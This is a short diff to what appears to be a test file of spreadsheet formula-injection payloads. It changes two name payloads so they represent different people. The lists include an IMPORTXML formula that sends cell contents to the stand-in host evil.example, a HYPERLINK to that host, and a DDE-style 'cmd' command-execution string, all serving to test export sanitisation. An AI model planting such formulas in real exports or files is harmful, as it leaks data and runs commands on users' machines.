@@ -27,7 +27,8 @@ PAYLOADS = [
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
     "=1+1\tinjected",
 ]
-NAME_PAYLOADS = ["=HYPERLINK(\"http://evil.example\",\"Ann Lee\")", "@Ann Lee", "-Ann Lee+cmd|' /C calc'!A0"]
+# Three different people: names sharing a full name are merged by the canon (tests/test_canon.py), not kept apart.
+NAME_PAYLOADS = ["=HYPERLINK(\"http://evil.example\",\"Ann Lee\")", "@Bo Chan", "-Cy Dorn+cmd|' /C calc'!A0"]
 ORG_PAYLOADS = ["+Acme Corp", "=Acme()"]
 SOURCE_PAYLOADS = ["=Wire Service", "\tTab Wire", "\r=CR Wire"]
 ATOM = "{http://www.w3.org/2005/Atom}"
